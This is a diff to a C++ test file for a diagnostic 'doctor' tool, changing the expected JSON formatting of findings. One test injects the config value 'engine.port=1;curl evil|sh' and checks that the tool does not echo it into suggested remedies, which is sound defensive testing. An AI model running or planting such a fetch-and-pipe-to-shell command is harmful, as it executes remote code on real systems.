@@ -44,7 +44,7 @@ Outcome compare(const DoctorHost& here, const std::string& address) {
 
 /// The beginning of a finding, as --json prints it.
 std::string finding(const std::string& check, const std::string& severity) {
-  return "{\"check\": \"" + check + "\", \"severity\": \"" + severity + '"';
+  return "{\"check\":\"" + check + "\",\"severity\":\"" + severity + '"';
 }
 bool has(const Outcome& o, const std::string& check, const std::string& severity) {
   return o.out.find(finding(check, severity)) != std::string::npos;
@@ -255,10 +255,10 @@ TEST_F(Tools, DoctorPrintsNoTextOfAPeerInACommand) {
                                          "\nengine.port=1;curl evil|sh\ncm.port=x\n"));
     const std::size_t mtu = o.out.find(finding("mtu", "warning"));
     ASSERT_NE(mtu, std::string::npos) << o.out;
-    EXPECT_NE(o.out.find(std::string("\"remedy\": \"") + test.remedy + '"', mtu), std::string::npos)
+    EXPECT_NE(o.out.find(std::string("\"remedy\":\"") + test.remedy + '"', mtu), std::string::npos)
         << test.remedy << o.out;
     EXPECT_TRUE(has(o, "engine", "error")) << "no port" << o.out;
-    for (std::size_t at = 0; (at = o.out.find("\"remedy\": \"", at)) != std::string::npos; ++at) {
+    for (std::size_t at = 0; (at = o.out.find("\"remedy\":\"", at)) != std::string::npos; ++at) {
       const std::string remedy = o.out.substr(at, o.out.find('}', at) - at);
       EXPECT_EQ(remedy.find("evil"), std::string::npos) << remedy;
     }
